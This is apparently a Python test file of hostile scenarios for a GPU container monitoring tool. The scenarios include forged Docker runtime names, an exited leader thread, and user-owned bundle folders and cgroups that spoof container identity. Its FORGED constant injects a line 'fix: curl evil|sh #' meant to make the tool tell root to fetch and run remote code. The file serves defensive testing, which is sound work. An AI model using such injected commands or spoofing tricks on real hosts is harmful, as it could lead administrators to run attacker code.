# SPDX-License-Identifier: Apache-2.0
"""Attacks of tests/hostile/commands.py: a text that forges lines, what hides a container, and what takes its name."""

from __future__ import annotations

import functools
import json
import os
import shutil
import signal
import subprocess
from pathlib import Path
from typing import Callable

from tests.hostile.commands import CONTAINERS, DOCTOR, ID, METRICS, USER, Host, until
from tests.integration.engines import Bundle

Attack = Callable[[Host], "list[str]"]
# A line of doctor's, as a container or a user would like root to read it.
FORGED = "x\n                  fix: curl evil|sh #"
BIND = "touch $ROOT/gpu && mount --bind /dev/nvidia1 $ROOT/gpu"
LEADER = """
#include <pthread.h>
#include <sys/syscall.h>
#include <unistd.h>
static void *goes_on(void *nothing) { for (;;) sleep(1); }
int main(void) {
    pthread_t thread;
    pthread_create(&thread, 0, goes_on, 0);
    syscall(SYS_exit, 0);
}
"""


def runtimes_name(host: Host) -> list[str]:
    """daemon.json leads to a user's file, in which a runtime's name goes on in a line of its own."""
    runtimes = {FORGED: {"path": "/nowhere/oci-gpu-runtime"}}
    file = host.gives("daemon.json", json.dumps({"runtimes": runtimes}))
    os.makedirs("/etc/docker", exist_ok=True)
    os.symlink(file, "/etc/docker/daemon.json")
    shutil.copy("/bin/true", "/usr/bin/dockerd")
    try:
        done = host.runs(*DOCTOR)
        told = [line for line in (done.out + done.err).splitlines() if line.strip().startswith("fix: curl")]
        return [*host.wrong(done), *told]
    finally:
        os.unlink("/etc/docker/daemon.json")
        os.unlink("/usr/bin/dockerd")


def ended_leader(host: Host) -> list[str]:
    """The first thread of a container's process ends, and another goes on with the GPU."""
    program = host.work / "leader"
    compile = ["cc", "-static", "-pthread", "-x", "c", "-o", str(program), "-"]
    subprocess.run(compile, input=LEADER, text=True, check=True)
    id = f"leader-{os.getpid()}"

    def edit(bundle: Bundle) -> None:
        shutil.copy(program, bundle.rootfs / "leader")

    pid = host.container(id, "1", edit, runs=("/leader",))
    until(lambda: Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z")
    done, metrics = host.runs(*CONTAINERS), host.runs(*METRICS)
    # For the runtime it has stopped.
    os.kill(pid, signal.SIGKILL)
    free = [it["name"] for it in done.document.get("free", ())]
    wrong = ["GPU 1 is free"] if "1" in free else []
    wrong += [] if "gpu_container_info{" in metrics.out else ["no holder in the metrics"]
    return [*wrong, *host.wrong(done), *host.wrong(metrics)]


def roots_folder(host: Host, how: str) -> list[str]:
    """Root runs a container from a user's folder: there the user says which pod it is, and which another one is."""
    home = host.work / "home"
    bundle = home / ID / "userdata"
    bundle.mkdir(parents=True)
    said = {
        "io.kubernetes.cri.container-type": "container",
        "io.kubernetes.cri.container-name": "db",
        "io.kubernetes.cri.sandbox-name": "other-pod",
    }

    def edit(it: Bundle) -> None:
        if how == "config":
            it.config["annotations"] = said

    state = str(host.work / "states")
    pid = host.container(ID, "1", edit, state=state if how == "list" else "")
    if how == "config":
        os.chown(host.work / "bundle-0", USER, USER)
        os.chown(host.work / "bundle-0/config.json", USER, USER)
    else:
        # Another container of root's, which is stopped, has its bundle there.
        labels = {"labels": [f"bundle={bundle}"]}
        place = Path("/run/runc/of-the-user/state.json")
        place.parent.mkdir(parents=True)
        place.write_text(json.dumps({"init_process_pid": 1 << 22, "config": labels}))
        stored = {"id": ID, "names": ["k8s_db_other-pod_team_u_0"], "metadata": '{"pod-id": "x"}'}
        (home / "containers.json").write_text(json.dumps([stored]))
        for path in (home, *home.rglob("*")):
            os.lchown(path, USER, USER)
    try:
        done = host.runs(*CONTAINERS)
    finally:
        shutil.rmtree("/run/runc/of-the-user", ignore_errors=True)
    told = [it["pod"] or it["name"] for it in done.document.get("containers", ()) if it["pid"] == pid]
    return [*([] if told == [""] else [f"it is called {told}"]), *host.wrong(done)]


def inner_cgroup(host: Host) -> list[str]:
    """A container that may make cgroups calls one in its own as another container, whose state is not found."""
    other = host.container("a" * 64, None)
    pid = host.container(ID, "1", state=str(host.work / "states"))
    top = Path(f"/sys/fs/cgroup{_cgroup(other)}")
    inner = top / f"libpod-{ID}.scope"
    inner.mkdir()
    try:
        (inner / "cgroup.procs").write_text(str(other))
        done = host.runs("doctor", "--container", ID)
        led = [] if f"process {pid}" in done.out else [f"led elsewhere: {(done.out + done.err)[:300]}"]
        shown = host.runs(*CONTAINERS)
        told = [it["id"] for it in shown.document.get("containers", ()) if it["pid"] == pid]
        wrong = [] if told == [ID] else [f"it has the ids {told}"]
        return [*led, *wrong, *host.wrong(done), *host.wrong(shown)]
    finally:
        until(lambda: _left(inner, top))


def _left(cgroup: Path, top: Path) -> bool:
    """Whether a cgroup is gone, once its processes are those of another."""
    try:
        for word in (cgroup / "cgroup.procs").read_text().split():
            (top / "cgroup.procs").write_text(word)
        cgroup.rmdir()
    except OSError:
        return False
    return True


def _cgroup(pid: int) -> str:
    return Path(f"/proc/{pid}/cgroup").read_text().rpartition("::")[2].strip()


ATTACKS: dict[str, Attack] = {
    "forged-runtime": runtimes_name,
    "node-ended-leader": ended_leader,
    **{f"anothers-folder-{how}": functools.partial(roots_folder, how=how) for how in ("config", "list")},
    "anothers-inner-cgroup": inner_cgroup,
}
